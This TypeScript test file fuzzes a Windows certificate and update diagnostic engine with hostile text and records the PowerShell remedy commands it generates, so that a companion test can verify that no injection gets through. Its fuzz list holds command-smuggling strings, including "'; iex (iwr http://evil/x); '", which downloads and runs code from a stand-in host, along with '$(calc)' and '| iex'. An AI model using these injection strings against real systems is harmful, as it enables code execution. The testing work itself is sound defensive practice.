// The D1 property corpus: fast-check puts hostile text (quotes of every kind PowerShell knows,
// semicolons, newlines, $(), backticks, pipes, NULs, arbitrary Unicode) into every string field of
// fault snapshots that between them produce every kind of remedy, runs the engine on each, and
// writes each remedy (text and data) as one JSON line. tests/pester/Remedies.Tests.ps1 runs this
// and asserts with PowerShell's own parser that every text is exactly one command, named as the
// data says, with no sub-expression, and whose values are exactly the data's.
//
//   node out/node-tests/remedyCorpus.js <count> <outFile> [seed]
import { writeFileSync } from 'node:fs';
import fc from 'fast-check';
import { invoke } from '../../src/index';
import { AUTOUPDATE_SDDL, HOUR, bin, dw, ft, healthy, sz, utf16 } from './cases/base';
import {
  CTL_PATH,
  binFact,
  dnsA,
  failedProbe,
  forgedChain,
  httpDate,
  httpProbe,
  rsaChain,
  tlsProbe,
  winHttpBlob,
  winInetBlob,
} from './cases/netFixtures';

const USER = 'S-1-5-21-1004336348-1177238915-682003330-1001';
const SP = 'Software\\Microsoft\\Windows\\CurrentVersion\\WinTrust\\Trust Providers\\Software Publishing';
const RECENT =
  '[11/18/2026, 8:54:49] x.msp - Signature verification for file x.msp (d:\\x.msp) failed with error 0x800b010e (t)';
const OLD =
  '[4/24/2012, 8:54:49] x.msp - Signature verification for file x.msp (d:\\x.msp) failed with error 0x800b010e (t)';

/** Fault snapshots that, between them, make every remedy the catalogues hold. */
function bases(): any[] {
  const out: any[] = [];
  // Seed 000 (root cause, ACL, stale CTL) with policy, redirect, CryptSvc faults and malformed values.
  const a = healthy();
  a.ctl.autoUpdate.HKLM.values.DisallowedCertLastSyncTime = bin(ft(7 * 24 * HOUR));
  a.ctl.autoUpdate.HKLM.values.LastSyncTime = bin('00');
  a.ctl.autoUpdate.HKLM.values.SyncDeltaTime = dw(3600);
  a.ctl.autoUpdate.HKLM.values.RootDirUrl = sz('http://wsus/ctl');
  a.ctl.autoUpdate.DEFAULT.values.PinRulesLastSyncTime = bin(ft(-5 * HOUR));
  a.ctl.policy = {
    path: a.ctl.policy.path,
    status: 'Ok',
    values: { EnableDisallowedCertAutoUpdate: dw(0), DisableRootAutoUpdate: dw(1), DisablePinRulesAutoUpdate: dw(1) },
  };
  a.services.CryptSvc = { status: 'Ok', state: 'Stopped', startType: 'Manual', account: 'LocalSystem' };
  a.acl.autoUpdate.sddl = 'O:SYG:SYD:PAI(A;CI;KA;;;SY)(A;CI;KA;;;BA)(A;CI;KR;;;BU)';
  a.acl.authRootKeys.CRLs.sddl = a.acl.autoUpdate.sddl;
  out.push(a);
  // WinTrust: every hive kind, user SIDs, malformed and REG_BINARY values, recent and old logs.
  const w = healthy();
  const hive = (scope: string, sid: string | null, state: any) => ({
    scope,
    sid,
    path: `HKU\\${sid ?? '.DEFAULT'}\\${SP}`,
    key: state === null ? { status: 'NotFound' } : { status: 'Ok', values: { State: state } },
  });
  w.wintrust.hives = [
    hive('System', 'S-1-5-18', null),
    hive('NetworkService', 'S-1-5-20', { status: 'Ok', type: 'REG_BINARY', hex: 'C9000000' }),
    hive('LocalService', 'S-1-5-19', { status: 'Ok', type: 'REG_SZ', hex: utf16('x') }),
    hive('User', USER, dw(0xc9)),
    hive('CurrentUser', null, dw(0x23e00)),
    hive('User', 'S-1-5-21-1-2-3-1002', dw(0x22849)),
  ];
  w.logs.setup = [
    { path: 'C:\\Users\\admin\\AppData\\Local\\Temp\\KB1.html', sid: USER, status: 'Ok', lines: [RECENT] },
    { path: 'C:\\Windows\\Temp\\KB2.html', status: 'Ok', lines: [RECENT, OLD] },
    { path: 'C:\\Users\\x\\AppData\\Local\\Temp\\KB3.html', status: 'Ok', lines: [OLD] },
  ];
  out.push(w);
  // The ACL's other findings: a deny entry, a NULL DACL, an unparseable parent, the key missing.
  const d = healthy();
  d.acl.autoUpdate.sddl = AUTOUPDATE_SDDL.replace(
    'D:AI',
    'D:AI(D;;KA;;;S-1-5-80-242729624-280608522-2219052887-3187409060-2225943459)',
  );
  d.acl.authRoot.sddl = 'not an sddl';
  out.push(d);
  const n = healthy();
  n.acl.autoUpdate = { path: n.acl.autoUpdate.path, status: 'NotFound' };
  n.services.CryptSvc = {
    status: 'Ok',
    state: 'Running',
    startType: 'Disabled',
    account: 'NT Authority\\NetworkService',
  };
  out.push(n);
  // The network family (#11): every finding with a remedy, the two root causes included.
  const net = healthy();
  const FE3 = 'fe3.delivery.mp.microsoft.com';
  net.ctl.autoUpdate.HKLM.values.DisallowedCertLastSyncTime = bin(ft(7 * 24 * HOUR));
  net.network.proxy.winInetUser = binFact(winInetBlob('proxy.contoso.com:8080', '<local>'));
  net.network.proxy.winHttp32 = binFact(winHttpBlob('old.contoso.com:80'));
  net.network.proxy.environment = { HTTPS_PROXY: 'http://127.0.0.1:3128' };
  net.network.probes = [
    tlsProbe(FE3, forgedChain(FE3, 'CN=Zscaler Root CA, O=Zscaler Inc.'), { proxy: 'proxy.contoso.com:8080' }),
    tlsProbe(
      'fe2.update.microsoft.com',
      forgedChain('fe2.update.microsoft.com', 'CN=Contoso Inspection CA, O=Contoso'),
    ),
    tlsProbe('sls.update.microsoft.com', rsaChain('sls.update.microsoft.com').slice(0, 1), {
      date: httpDate(-5, 7200),
    }),
    failedProbe('fe2cr.update.microsoft.com', 'https', 'ConnectFailed', 'Connect', { message: 'refused' }),
    failedProbe('slscr.update.microsoft.com', 'https', 'ProxyRefused', 'Proxy', {
      proxy: '127.0.0.1:3129',
      proxyStatus: 407,
      proxyStatusLine: 'HTTP/1.0 407 Proxy Authentication Required',
    }),
    httpProbe('ctldl.windowsupdate.com', CTL_PATH, { httpStatus: 403, httpStatusLine: 'HTTP/1.1 403 Forbidden' }),
    failedProbe('crl.microsoft.com', 'http', 'Timeout', 'Http'),
  ];
  net.network.dns = [
    dnsA(FE3, ['0.0.0.0']),
    dnsA(FE3, ['20.190.160.10'], { server: '1.1.1.1' }),
    dnsA('ctldl.windowsupdate.com', [], { rcode: 'NXDOMAIN' }),
    dnsA('crl.microsoft.com', [], { rcode: 'REFUSED' }),
  ];
  out.push(net);
  const dead = healthy();
  dead.network.proxy.winHttp = binFact('18000000000000000300000040000000');
  dead.network.probes = [failedProbe(FE3, 'https', 'Timeout', 'Connect', { proxy: '10.0.0.5:8080' })];
  out.push(dead);
  return out;
}

/** Text that tries to leave a single-quoted PowerShell string, start a statement or expand. */
const hostilePiece = fc.oneof(
  fc.constantFrom(
    "'",
    '\u2018',
    '\u2019',
    '\u201A',
    '\u201B',
    '"',
    '\u201C',
    ';',
    '\n',
    '\r\n',
    '$(calc)',
    '$env:TEMP',
    '`',
    '`n',
    '| iex',
    '& calc',
    '#',
    '<#',
    '@{',
    '}',
    ' -WhatIf:$false ',
    "'; iex (iwr http://evil/x); '",
    '\u0000',
    '--%',
  ),
  fc.string({ maxLength: 8 }),
  fc.string({ unit: 'binary', maxLength: 6 }),
);
const hostile = fc.array(hostilePiece, { minLength: 1, maxLength: 6 }).map((p) => p.join(''));

/** Every string leaf of a value, as a path. */
function stringLeaves(value: unknown, path: (string | number)[] = [], out: (string | number)[][] = []) {
  if (typeof value === 'string') out.push(path);
  else if (Array.isArray(value)) value.forEach((v, i) => stringLeaves(v, [...path, i], out));
  else if (value !== null && typeof value === 'object')
    for (const [k, v] of Object.entries(value)) stringLeaves(v, [...path, k], out);
  return out;
}

function setAt(root: any, path: (string | number)[], text: string): void {
  let node = root;
  for (const key of path.slice(0, -1)) node = node[key];
  const last = path[path.length - 1] as string | number;
  // A REG_SZ's text travels as UTF-16 hex, the way the collector writes it.
  if (last === 'hex' && (node.type === 'REG_SZ' || node.type === 'REG_EXPAND_SZ')) {
    node.hex = utf16(text);
    node.text = text;
  } else {
    node[last] = text;
  }
}

const count = Number(process.argv[2] ?? '10000');
const outFile = process.argv[3] ?? 'remedies.jsonl';
const seed = Number(process.argv[4] ?? '20261126');
const templates = bases();
const accepts = (snapshot: unknown) => JSON.parse(invoke('diagnose', JSON.stringify(snapshot))).ok === true;
// The free-text fields: those the schema lets hold any text. The others (SIDs, scopes, statuses,
// types, hex, times) refuse hostile text at validation, which the second check below proves.
let refused = 0;
const leaves = templates.map((t) =>
  stringLeaves(t).filter((path) => {
    const probe = JSON.parse(JSON.stringify(t));
    setAt(probe, path, "x'; $(calc)\n");
    if (accepts(probe)) return true;
    refused++;
    return false;
  }),
);
const scenario = fc.record({
  base: fc.nat({ max: templates.length - 1 }),
  mask: fc.array(fc.boolean(), { minLength: 256, maxLength: 256 }),
  texts: fc.array(hostile, { minLength: 256, maxLength: 256 }),
});

const lines: string[] = [];
const seen = new Set<string>();
let valid = 0;
for (const s of fc.sample(scenario, { numRuns: count, seed })) {
  const snapshot = JSON.parse(JSON.stringify(templates[s.base]));
  (leaves[s.base] as (string | number)[][]).forEach((path, i) => {
    if (s.mask[i % 256]) setAt(snapshot, path, s.texts[i % 256] as string);
  });
  const response = JSON.parse(invoke('diagnose', JSON.stringify(snapshot)));
  if (!response.ok) {
    if (response.error.code === 'InternalError') throw new Error(`engine fault: ${response.error.message}`);
    continue;
  }
  valid++;
  for (const f of response.result.findings) {
    const key = `${f.id} ${f.remedy.command}`;
    if (seen.has(key)) continue;
    seen.add(key);
    lines.push(JSON.stringify({ id: f.id, ...f.remedy }));
  }
}
writeFileSync(outFile, lines.join('\n') + '\n', 'utf8');
const free = leaves.reduce((n, l) => n + l.length, 0);
console.log(
  JSON.stringify({ snapshots: count, valid, remedies: lines.length, freeFields: free, refusedFields: refused, seed }),
);
if (valid < count) throw new Error(`only ${valid} of ${count} generated snapshots were valid`);
